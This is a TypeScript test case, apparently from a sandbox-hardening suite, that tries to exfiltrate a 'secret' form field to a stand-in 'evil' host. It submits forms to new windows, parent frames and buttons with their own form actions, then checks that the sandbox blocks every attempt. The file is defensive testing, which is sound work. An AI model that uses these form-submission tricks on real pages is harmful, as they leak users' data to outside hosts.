import type { Attack } from '../attack.ts';
import { holds, same } from '../expect.ts';

function submit(action: string, method: string, target: string): void {
  const form = document.createElement('form');
  Object.assign(form, { action, method, target });
  form.innerHTML = '<input name="secret" value="secret"><button>go</button>';
  form.querySelector('button')?.setAttribute('formaction', `${action}-button`);
  document.body.append(form);
  form.requestSubmit();
  form.querySelector('button')?.click();
  form.submit();
}

export const attack: Attack = {
  id: '14',
  group: 'exfiltration',
  title: 'submit forms elsewhere: to itself, to new windows, by buttons with addresses of their own',
  expected:
    '0 hits, no window; the submit event still fires, a form to its own address does nothing, one to elsewhere ends it',
  heardOnAnOrdinaryPage: true,
  async guest({ evil, pause }) {
    let submits = 0;
    addEventListener('submit', () => {
      submits += 1;
    });
    for (const target of ['_blank', '_top', '_parent', 'elsewhere']) {
      for (const method of ['get', 'post']) submit(`${evil}/14/${target}-${method}`, method, target);
      await pause(30);
    }
    submit('', 'post', '_self');
    await pause(300);
    setTimeout(() => submit(`${evil}/14/self`, 'post', '_self'), 100);
    return submits;
  },
  async judge({ report, page, ended }) {
    holds(Number(report) >= 10, `submit events: ${JSON.stringify(report)}`);
    await ended();
    same(
      page
        .context()
        .pages()
        .filter((other) => other.url().includes('/14/')).length,
      0,
      'windows',
    );
  },
};
